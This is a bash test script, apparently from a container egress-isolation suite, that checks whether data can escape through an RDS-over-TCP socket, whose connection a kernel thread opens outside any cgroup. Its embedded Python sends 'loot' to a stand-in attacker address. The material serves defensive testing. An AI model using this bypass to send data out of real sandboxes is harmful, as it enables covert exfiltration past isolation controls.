#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends by RDS, for which a thread of the kernel opens a TCP connection of its own, in no cgroup
# stopped-by: tc
# reason: port
# kernels: all
#
# Making an RDS socket asks for no privilege. It is older than the gate: where the kernel has the LSM hook, a
# new one cannot be made. Without a gate on the interface nothing else would see it.
. "$(dirname "$0")/../interfaces/lib.sh"
modprobe -q rds_tcp 2>/dev/null || [[ -d /sys/module/rds_tcp ]] || skip "this kernel has no RDS over TCP"
container tcp/443

attack_by <<'PYTHON'
from attacker import *
import time

AF_RDS = 21
try:
    rds = LIBC.socket(AF_RDS, socket.SOCK_SEQPACKET, 0)
    check(rds)
    own = sockaddr4(OWN4, 4000)
    check(LIBC.bind(rds, own, len(own)))
except OSError as error:
    skip(f"no RDS over TCP: {error}")
ready()
with attempt("rds"):
    data, target = loot("rds"), sockaddr4(EVIL4, 4000)
    check(LIBC.sendto(rds, data, len(data), socket.MSG_DONTWAIT, target, len(target)))
time.sleep(1.5) # the kernel's thread takes its time
PYTHON
works_once_open 'ip4 6 192.0.2.2 EVIL4'
stopped_once_open gate
recorded tc port
